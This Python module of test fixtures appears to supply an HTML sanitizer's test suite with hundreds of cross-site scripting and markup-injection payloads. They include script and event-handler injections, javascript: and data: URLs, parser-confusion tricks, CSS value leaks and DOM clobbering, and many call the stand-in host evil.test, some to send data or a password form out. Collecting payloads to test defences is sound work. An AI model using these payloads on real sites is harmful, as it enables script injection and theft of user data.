"""Markup that strangers send to run a script, to fetch something, or to cover the desk.

`RAN` is what a script of theirs would do; `http://evil.test` is where everything else leads.
"""

RAN = "new Image().src='http://evil.test/ran';console.log('ran');alert(1)"
EVIL = "http://evil.test"

SCRIPTS = f"""
<script>{RAN}</script>
<SCRIPT>{RAN}</SCRIPT>
<script src="{EVIL}/a.js"></script>
<script src=//evil.test/a.js>
<scr<script>ipt>{RAN}</scr</script>ipt>
<script/x>{RAN}</script>
<script type="module">{RAN}</script>
<script type="text/&#106;avascript">{RAN}</script>
<<script>{RAN}//<</script>
<script>/*<!--*/{RAN}//--></script>
<noscript><p title="</noscript><script>{RAN}</script>">
<textarea><script>{RAN}</script>
<title><img src=x onerror="{RAN}"></title>
<template><script>{RAN}</script></template>
<xmp><script>{RAN}</script></xmp>
<plaintext><script>{RAN}</script>
<object data="{EVIL}/a.swf"></object>
<object data="javascript:{RAN}"></object>
<object type="text/html" data="data:text/html,<script>{RAN}</script>"></object>
<embed src="{EVIL}/a.swf">
<embed src="javascript:{RAN}">
<applet code="a" archive="{EVIL}/a.jar"></applet>
<iframe src="{EVIL}"></iframe>
<iframe src="javascript:{RAN}"></iframe>
<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=&quot;{RAN}&quot;&gt;"></iframe>
<frameset><frame src="javascript:{RAN}"></frameset>
<fencedframe></fencedframe><portal src="{EVIL}"></portal>
<img src=x onerror="{RAN}">
<img src=x onerror=&#110;ew&#32;Image().src='http://evil.test/ran'>
<img/src=x/onerror="{RAN}">
<img src=x oNeRrOr = "{RAN}">
<img src=x onerror
="{RAN}">
<img \x0bonerror="{RAN}" src=x>
<img src="x"onerror="{RAN}">
<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>
<image src=x onerror="{RAN}">
<body onload="{RAN}">
<body onpageshow="{RAN}" onhashchange="{RAN}">
<p onmouseover="{RAN}" onclick="{RAN}">words</p>
<div onwheel="{RAN}" onpointerenter="{RAN}">words</div>
<input autofocus onfocus="{RAN}">
<select autofocus onfocus="{RAN}"></select>
<button autofocus onfocus="{RAN}">b</button>
<a href="#" onfocus="{RAN}" autofocus tabindex=1>a</a>
<details open ontoggle="{RAN}">d</details>
<video src=x onerror="{RAN}"></video>
<audio src=x onerror="{RAN}" controls>
<video><source onerror="{RAN}"></video>
<video poster="{EVIL}/poster.png" src="{EVIL}/a.mp4" autoplay></video>
<audio src="{EVIL}/a.mp3" autoplay></audio>
<track src="{EVIL}/a.vtt"><source srcset="{EVIL}/b.png">
<marquee onstart="{RAN}">m</marquee>
<style onload="{RAN}"></style>
<link rel=stylesheet href=x onerror="{RAN}">
<meter onmouseover="{RAN}">0</meter>
<div popover id=a onbeforetoggle="{RAN}"></div><button popovertarget=a>x</button>
<xss style="animation-name:x" onanimationstart="{RAN}">
<div contenteditable onblur="{RAN}" autofocus></div>
""".strip().splitlines()

FOREIGN = f"""
<svg onload="{RAN}">
<svg><script>{RAN}</script></svg>
<svg><script href="{EVIL}/a.js"/></svg>
<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:{RAN}"><text x=20 y=20>x</text></a></svg>
<svg><set attributeName=href to="javascript:{RAN}"></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RAN}</script></svg>#x">
<svg><image href="{EVIL}/a.png"/></svg>
<svg><foreignObject><iframe src="{EVIL}"></iframe></foreignObject></svg>
<svg><style>@import url({EVIL}/a.css)</style></svg>
<svg><style><img src=x onerror="{RAN}"></style></svg>
<math><mtext><img src=x onerror="{RAN}"></mtext></math>
<math><a xlink:href="javascript:{RAN}">x</a></math>
<math href="javascript:{RAN}">x</math>
<math><annotation-xml encoding="text/html"><script>{RAN}</script></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RAN}">
<svg></p><style><a id="</style><img src=x onerror={RAN}>">
<svg><p><style><g title="</style><img src=x onerror={RAN}>">
<noscript><style></noscript><img src=x onerror="{RAN}"></style>
<table><caption><svg><title><table><style><img src=x onerror="{RAN}"></style>
<select><template shadowrootmode=open><script>{RAN}</script></template></select>
<div><template shadowrootmode="open"><img src=x onerror="{RAN}"></template></div>
<!--><img src=x onerror="{RAN}">-->
<!--!><img src=x onerror="{RAN}">--!>
<![CDATA[><img src=x onerror="{RAN}">]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:{RAN}"?>
<!DOCTYPE html [<!ENTITY x "<script>{RAN}</script>">]>&x;
<p title="<img src=x onerror={RAN}>">p</p>
<p title='"><img src=x onerror="{RAN}">'>p</p>
<img alt="`><img src=x onerror={RAN}>" src=y>
<a title="</a><script>{RAN}</script>" href="http://example.com">a</a>
""".strip().splitlines()

ADDRESSES = f"""
<a href="javascript:{RAN}">click</a>
<a href=" javascript:{RAN}">click</a>
<a href="JaVaScRiPt:{RAN}">click</a>
<a href="java&#9;script:{RAN}">click</a>
<a href="java&#10;script:{RAN}">click</a>
<a href="&#1;javascript:{RAN}">click</a>
<a href="javascript&colon;{RAN}">click</a>
<a href="&#x6A;avascript:{RAN}">click</a>
<a href="javascript&#0000058{RAN}">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>{RAN}</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="blob:http://evil.test/a">click</a>
<a href="file:///etc/passwd">click</a>
<a href="//evil.test/a" ping="{EVIL}/ping">click</a>
<a href="/sign-out">click</a>
<a href="?pictures=1">click</a>
<a href="view-source:http://evil.test">click</a>
<a href="intent://evil.test#Intent;end">click</a>
<a href="{EVIL}" target="_top" rel="opener">click</a>
<a href="{EVIL}" target="_parent" download>click</a>
<area href="javascript:{RAN}" shape=rect coords="0,0,999,999">
<map name=m><area href="{EVIL}" shape=default></map><img usemap=#m src=x>
<form action="javascript:{RAN}"><button>go</button></form>
<form action="{EVIL}" id=f><input name=password></form><button form=f>go</button>
<button formaction="javascript:{RAN}">go</button>
<input type=image src="{EVIL}/a.png" formaction="{EVIL}">
<isindex action="javascript:{RAN}" type=image>
<base href="{EVIL}/"><img src="a.png"><a href="a">a</a>
<base target="_top"><base href="javascript:/*">
<meta http-equiv="refresh" content="0;url={EVIL}">
<meta http-equiv="refresh" content="0;url=javascript:{RAN}">
<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="">
<meta http-equiv="Link" content="<{EVIL}/a.css>;rel=stylesheet">
<meta name=referrer content=unsafe-url><img src="{EVIL}/referred.png">
<link rel="stylesheet" href="{EVIL}/a.css">
<link rel="prefetch" href="{EVIL}/a"><link rel="preload" as=image href="{EVIL}/b">
<link rel="dns-prefetch" href="{EVIL}"><link rel="preconnect" href="{EVIL}">
<link rel="icon" href="{EVIL}/icon"><link rel="manifest" href="{EVIL}/m">
<link rel=import href="{EVIL}/a"><link rel=modulepreload href="{EVIL}/a.js">
<img src="{EVIL}/a.png">
<img srcset="{EVIL}/a.png 1x" src=x>
<img src="//evil.test/a.png">
<img src="\\\\evil.test\\a.png">
<img src="http:evil.test/a.png">
<img src="ftp://evil.test/a.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'/>">
<img src="javascript:{RAN}">
<img dynsrc="{EVIL}/a" lowsrc="{EVIL}/b" longdesc="{EVIL}/c">
<img src="cid:x" data-remote-src="{EVIL}/a.png">
<img src='cid:x" onerror="{RAN}'>
<img src="cid:x&quot; onerror=&quot;{RAN}">
<picture><source srcset="{EVIL}/a.png"><img src=x></picture>
<table background="{EVIL}/a.png"><tr><td background="{EVIL}/b.png">x</table>
<body background="{EVIL}/a.png" bgcolor=red>
<bgsound src="{EVIL}/a.wav"><layer src="{EVIL}/a"></layer>
<q cite="{EVIL}">q</q><blockquote cite="javascript:{RAN}">b</blockquote>
<html manifest="{EVIL}/m"><head profile="{EVIL}/p">
""".strip().splitlines()

STYLES = f"""
<style>@import url("{EVIL}/a.css");</style>
<style>body{{background:url({EVIL}/a.png)}}</style>
<style>input[value^=a]{{background:url({EVIL}/leak?a)}}</style>
<style>@font-face{{font-family:x;src:url({EVIL}/leak)}}*{{font-family:x}}</style>
<style><!--</style><script>{RAN}</script>--></style>
<p style="background:url({EVIL}/a.png)">p</p>
<p style="background-image:url('{EVIL}/b.png')">p</p>
<p style="background:u\\72l({EVIL}/c.png)">p</p>
<p style="background:&#117;rl({EVIL}/d.png)">p</p>
<p style="background-image:image-set('{EVIL}/e.png' 1x)">p</p>
<p style="background-image:-webkit-image-set(url({EVIL}/e2.png) 1x)">p</p>
<p style="background-image:cross-fade(url({EVIL}/f.png),red)">p</p>
<p style="background-color:red;border-image:url({EVIL}/f2.png)">p</p>
<p style="list-style:url({EVIL}/g.png)">p</p>
<p style="list-style-type:url({EVIL}/g2.png)">p</p>
<p style="cursor:url({EVIL}/h.png),auto">p</p>
<p style="content:url({EVIL}/i.png)">p</p>
<p style="mask:url({EVIL}/j.svg#m);filter:url({EVIL}/k.svg#f)">p</p>
<p style="width:expression({RAN})">p</p>
<p style="behavior:url({EVIL}/a.htc);-moz-binding:url({EVIL}/a.xml#x)">p</p>
<p style="color:red;@import '{EVIL}/l.css'">p</p>
<p style="color:red}}</style><script>{RAN}</script>">p</p>
<p style="font-family:'x';background:url({EVIL}/m.png)">p</p>
<p style="font-family:'&quot;;}}</style><script>{RAN}</script>">p</p>
<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:red">over</p>
<p style="position:absolute;inset:0;opacity:0.01">over</p>
<p style="margin:-9999px;transform:scale(100);float:left">over</p>
<p style="width:100000000px;font-size:9999999px;padding:99999999px">huge</p>
<p style="color:var(--x,url({EVIL}/n.png))">p</p>
<p style="width:attr(data-x);color:env(x)">p</p>
<p style="background-color:red;/*;*/background:url({EVIL}/o.png)">p</p>
<div style="animation:x 1s;transition:all 1s">p</div>
""".strip().splitlines()

NAMES = f"""
<p id="csrfmiddlewaretoken" name="htmx">clobber</p>
<form id=htmx><input name=process><input id=location name=cookie></form>
<a id=globalThis href="javascript:{RAN}"></a><a id=globalThis name=htmx href="x"></a>
<p class="toast is-on" data-fragment="thread" data-keep hx-get="/x" hx-trigger="load">class</p>
<p hx-on:click="{RAN}" hx-vals="js:{{a:{RAN}}}" data-hx-get="{EVIL}">htmx</p>
<button data-key="c" data-menu popovertarget="x" accesskey="s">key</button>
<p is="x-y" slot="a" part="b" itemscope itemid="{EVIL}">attributes</p>
<p lang="<script>" dir="rtl" title="\u202egnp.exe">direction \u202e gnp.exe \u2066 x</p>
<p>\u202e\u202e\u202e{RAN}\u202c</p>
<p>{"<b>" * 400}deep</p>
<p>zero\u200bwidth\u2060\ufeff\u00ad</p>
{"<div>" * 300}<img src=x onerror="{RAN}">{"</div>" * 300}
<b><p><i></b><u></p></i><img src=x onerror="{RAN}"></u>
<table><a><tr><b><td></a><img src=x onerror="{RAN}"></table>
</body></html><script>{RAN}</script>
</div></main></body><script>{RAN}</script>
""".strip().splitlines()

PAGES = [*SCRIPTS, *FOREIGN, *ADDRESSES, *STYLES, *NAMES]

#: The same in fields that are text: subjects, names, names of files, calendars.
FIELDS = [
    f"<script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f'"><img src=x onerror="{RAN}">',
    f"'><svg onload='{RAN}'>",
    f"javascript:{RAN}",
    f"{EVIL}/a.png",
    "{{ 7 * 7 }}{% for a in b %}${7*7}#{7*7}",
    "</title></textarea></script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe \u2066 x",
    'data-fragment="thread" hx-get=/x',
    '=HYPERLINK("http://evil.test")',
]
